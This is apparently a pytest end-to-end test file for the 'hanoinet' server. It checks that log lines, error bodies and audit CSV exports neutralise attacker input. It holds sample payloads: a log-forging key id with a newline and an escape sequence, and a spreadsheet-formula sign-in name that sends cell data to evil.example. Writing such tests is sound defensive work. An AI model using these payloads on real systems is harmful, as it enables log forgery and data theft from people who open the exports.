"""Attacker-supplied values reach no log line, error body or CSV cell as they came, against a real ``hanoinet serve``
(its standard error captured), in both log formats.

The reproductions (issue 11): an anonymous transmission whose key id carried a newline forged a log line; one of
100,000 characters made a 100 KB log line; a sign-in attempted as ``=HYPERLINK(…)`` became a formula in the audit
log's CSV export, opened by the auditor in a spreadsheet.
"""

from __future__ import annotations

import base64
import csv
import io
import json
import time
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest

from tests.e2e.conftest import free_port
from tests.e2e.nodes import NodeProcess
from tests.e2e.signin import post_login

FORGED = "INFO:     hanoinet.security: administrator ada signed in"
HUGE = 100_000
LINE_BOUND = 2_500
"""A log line's longest, by the defaults: a 2,000-character message (``HANOINET_LOG_MESSAGE_LIMIT``), its level and
logger in front."""
FORMULA = '=HYPERLINK("http://evil.example/steal?d="&A1,"open the report")'


def b64(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def transmission_with_kid(kid: str) -> bytes:
    """A compact JWE that no key opens, its protected header naming ``kid``: what anyone on the network can send."""
    header = {"alg": "ECDH-ES+A256KW", "enc": "A256GCM", "kid": kid, "epk": {"kty": "OKP", "crv": "X25519", "x": "AA"}}
    parts = [b64(json.dumps(header).encode()), b64(b"k" * 40), b64(b"i" * 12), b64(b"c" * 16), b64(b"t" * 16)]
    return ".".join(parts).encode()


@pytest.fixture(scope="module", params=["text", "json"])
def node(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Iterator[NodeProcess]:
    base = tmp_path_factory.mktemp(f"logs-{request.param}")
    running = NodeProcess(
        f"vnm-{request.param}",
        "VNM",
        base / "data",
        free_port(),
        extra={"HANOINET_LOG_FORMAT": request.param},
    )
    running.data_dir.mkdir(parents=True)
    running.cli("init")
    running.token = running.cli("token", "add", "audit-tool", "--role", "auditor").stdout.strip()
    running.start()
    yield running
    running.stop()


def lines_after(log: Path, offset: int, marker: str, *, timeout: float = 10.0) -> list[str]:
    """The log lines written after ``offset`` that mention ``marker`` (waiting a little for them)."""
    deadline = time.monotonic() + timeout
    while True:
        text = log.read_bytes()[offset:].decode(errors="replace")
        found = [line for line in text.splitlines() if marker in line]
        if found or time.monotonic() > deadline:
            return found
        time.sleep(0.05)


def test_a_key_id_with_a_newline_or_of_100_000_characters_makes_one_bounded_escaped_line(node: NodeProcess) -> None:
    fmt = "json" if node.node_id.endswith("json") else "text"
    for marker, kid in (("forge-1", f"forge-1\n{FORGED}\r\x1b[2J"), ("huge-1", "huge-1" + "K" * HUGE)):
        offset = node.log.stat().st_size
        with httpx.Client(base_url=node.url, timeout=30.0) as anonymous:
            refused = anonymous.post(
                "/federation/v1/transmissions",
                content=transmission_with_kid(kid),
                headers={"Content-Type": "application/jose"},
            )
        assert 400 <= refused.status_code < 500, refused.text
        found = lines_after(node.log, offset, marker)
        assert len(found) == 1, found  # one record, one line
        (line,) = found
        assert len(line) < LINE_BOUND, len(line)
        everything = node.log.read_bytes()[offset:].decode(errors="replace")
        assert not any(row.startswith(FORGED) for row in everything.splitlines()), everything[:2000]
        assert "\x1b" not in everything
        if fmt == "json":
            entry = json.loads(line)
            assert entry["level"] == "WARNING"
            assert marker in entry["message"]
        if marker == "forge-1":
            assert "\\n" + FORGED in line if fmt == "text" else "\\\\n" + FORGED in line
        else:
            assert "more characters]" in line  # it says it was cut


def test_a_sign_in_name_that_is_a_formula_is_neutralised_in_the_audit_csv(node: NodeProcess) -> None:
    with httpx.Client(base_url=node.url, timeout=30.0) as anonymous:
        tried = post_login(anonymous, FORMULA, "whatever it is", next="/")
    assert tried.status_code == 401
    with node.client() as auditor:
        exported = auditor.get("/api/v1/audit.csv", params={"action": "session:login", "outcome": "failed"})
    assert exported.status_code == 200, exported.text
    rows = list(csv.DictReader(io.StringIO(exported.text)))
    actors = [r["actor"] for r in rows]
    assert "'" + FORMULA.lower() in actors, actors
    every_cell = [cell for r in rows for cell in r.values()]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in every_cell)
    at_cli = node.cli("audit", "export", "--action", "session:login")
    cli_rows = list(csv.DictReader(io.StringIO(at_cli.stdout)))
    assert "'" + FORMULA.lower() in [r["actor"] for r in cli_rows]


def test_an_error_body_echoing_input_is_bounded(node: NodeProcess) -> None:
    """``no case '<what was asked for>'``: the boundary (the API's error handler) cuts every string of an error
    body, whichever service wrote the message; the accounts' own messages quote at most 64 characters."""
    admin = node.cli("token", "add", "ops", "--role", "administrator", "--role", "investigator").stdout.strip()
    with httpx.Client(base_url=node.url, timeout=30.0, headers={"Authorization": f"Bearer {admin}"}) as api:
        case = api.get(f"/api/v1/cases/{'c' * 6000}")
        user = api.get(f"/api/v1/users/{'u' * 6000}")
    assert case.status_code == 404, case.text
    assert case.json()["detail"].startswith("no case 'ccc")
    assert len(case.json()["detail"]) < 1_100, len(case.json()["detail"])
    assert "more characters]" in case.json()["detail"]
    assert user.status_code == 404, user.text
    assert len(user.json()["detail"]) < 200, user.json()["detail"]
